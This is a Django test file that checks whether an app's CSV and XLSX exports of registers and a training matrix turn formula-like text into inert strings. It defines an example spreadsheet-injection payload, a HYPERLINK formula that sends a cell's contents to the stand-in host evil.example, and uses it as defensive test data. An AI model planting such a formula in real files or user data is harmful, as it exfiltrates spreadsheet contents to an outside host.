"""Spreadsheets the app writes never run what someone typed as a formula (issue 8 item 5)."""

from __future__ import annotations

import csv
import io

from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from safeguard.background.models import BackgroundJob
from safeguard.background.runner import run_job
from safeguard.tenancy.roles import Role
from safeguard.tenancy.spreadsheets import csv_text, safe_cell, xlsx_bytes
from tests.registers.helpers import make_entry, register_of
from training import actions as training_actions

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'


def _client(user):
    client = Client()
    client.force_login(user)
    return client


def _cells(content: bytes):
    return [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row if c.value is not None]


def test_it_writes_formula_like_text_as_text_in_every_kind_of_cell() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Plain words") == "Plain words" and safe_cell(-3) == -3
    rows = list(csv.reader(io.StringIO(csv_text([["=1+1", "@SUM(A1)", "fine"]]))))
    assert rows == [["'=1+1", "'@SUM(A1)", "fine"]]
    cells = _cells(xlsx_bytes([["=1+1", "-2+3", "bad\x01char", 7]], "Sheet"))
    assert [(c.value, c.data_type) for c in cells] == [("=1+1", "s"), ("-2+3", "s"), ("badchar", "s"), (7, "n")]


def test_it_exports_a_typed_hyperlink_formula_in_a_register_entry_as_text(world) -> None:
    make_entry(world, household=ATTACK, risk="=1+2")
    sm = _client(world.members[Role.SAFEGUARDING_MANAGER])
    sm.post(reverse("registers:export-start", args=[register_of(world.area).pk]), {"format": "xlsx"})
    export = BackgroundJob.objects.for_org(world.org).get()
    assert run_job(export.pk).status == "done"
    download = sm.get(reverse("registers:export-download", args=[export.pk]))
    content = b"".join(download.streaming_content)
    typed = {c.value: c.data_type for c in _cells(content)}
    assert typed[ATTACK] == "s" and typed["=1+2"] == "s"
    assert not any(t == "f" for t in typed.values())


def test_it_exports_a_formula_typed_as_a_name_in_the_training_matrix_as_text(world) -> None:
    training_actions.do_save_person(world.org, {"full_name": ATTACK, "reference": "F1"}, acting_user=None)
    hr = _client(world.members[Role.HR_LD])
    xlsx = hr.get(reverse("training:matrix-export"), {"format": "xlsx"})
    assert xlsx.status_code == 200, xlsx.status_code
    typed = {c.value: c.data_type for c in _cells(b"".join(getattr(xlsx, "streaming_content", [xlsx.content])))}
    assert typed[ATTACK] == "s"
    text = hr.get(reverse("training:matrix-export"), {"format": "csv"}).content.decode("utf-8-sig")
    assert "'" + ATTACK in next(csv.reader(io.StringIO(text.split("\n", 1)[1])))
